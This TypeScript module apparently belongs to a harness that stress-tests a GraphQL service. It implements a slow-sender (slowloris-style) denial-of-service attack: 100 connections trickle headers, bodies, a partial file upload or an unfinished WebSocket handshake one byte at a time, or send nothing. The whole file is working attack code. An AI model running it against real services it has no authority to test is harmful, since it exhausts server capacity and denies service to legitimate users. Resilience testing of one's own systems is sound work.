// Clients that send one byte at a time, so as to hold a connection, and what belongs to it, for as long as they are let.

import type { Socket } from 'node:net';
import { type Attack, repeatedly } from '../attack.ts';
import { type Attacker, outcomeOf } from '../attacker.ts';

const CONNECTIONS = 100;
const EVERY_MS = 1000;

const UPLOAD = {
  query: 'mutation ($file: Upload!) { importProducts(file: $file) { id } }',
  variables: { file: null },
};

interface Sender {
  /** What is sent at once, before the bytes that drip. */
  begin(attacker: Attacker): string;
  /** Whether nothing follows. */
  isSilent?: true;
  /** Whether the connection goes on after an answer. */
  keepsOpen?: true;
}

const multipart = { 'content-type': 'multipart/form-data; boundary=slow', 'content-length': '9000000' };
const part = (name: string) => `--slow\r\nContent-Disposition: form-data; name="${name}"`;
const json = { 'content-type': 'application/json', 'content-length': '10000' };

const SENDERS: readonly Sender[] = [
  { begin: () => '', isSilent: true },
  { begin: ({ url }) => `POST /graphql HTTP/1.1\r\nHost: ${url.host}\r\nX-Slow: ` },
  { begin: (attacker) => attacker.head('POST /graphql', json) },
  { begin: (attacker) => attacker.head('POST /session', json) },
  { begin: (attacker) => attacker.head('POST /graphql', multipart) },
  {
    begin: (attacker) =>
      `${attacker.head('POST /graphql', multipart)}${part('operations')}\r\n\r\n${JSON.stringify(UPLOAD)}\r\n` +
      `${part('map')}\r\n\r\n{"0":["variables.file"]}\r\n` +
      `${part('0')}; filename="slow.csv"\r\n\r\nname,sku,description\n`,
  },
  {
    // A WebSocket that never begins the protocol.
    begin: (attacker) =>
      attacker.head('GET /graphql', {
        connection: 'upgrade',
        upgrade: 'websocket',
        'sec-websocket-version': '13',
        'sec-websocket-key': 'AAAAAAAAAAAAAAAAAAAAAA==',
        'sec-websocket-protocol': 'graphql-transport-ws',
      }),
    isSilent: true,
    keepsOpen: true,
  },
];

export const slowSenders: Attack = {
  name: 'slow-senders',
  description: `${CONNECTIONS} connections whose headers, bodies, uploads or handshakes arrive byte by byte, or never`,
  isHeld: true,
  async run(attacker, outcomes, signal) {
    await repeatedly({ atOnce: CONNECTIONS, atMost: 20 * CONNECTIONS }, signal, async (number) => {
      const sender = SENDERS[number % SENDERS.length] as Sender;
      const socket = attacker.connect();
      socket.write(sender.begin(attacker));
      if (!sender.isSilent) drip(socket);
      await outcomes.count(outcomeOf(socket, signal, sender.keepsOpen));
    });
  },
};

function drip(socket: Socket): void {
  const timer = setInterval(() => socket.write('a'), EVERY_MS);
  socket.once('close', () => clearInterval(timer));
}
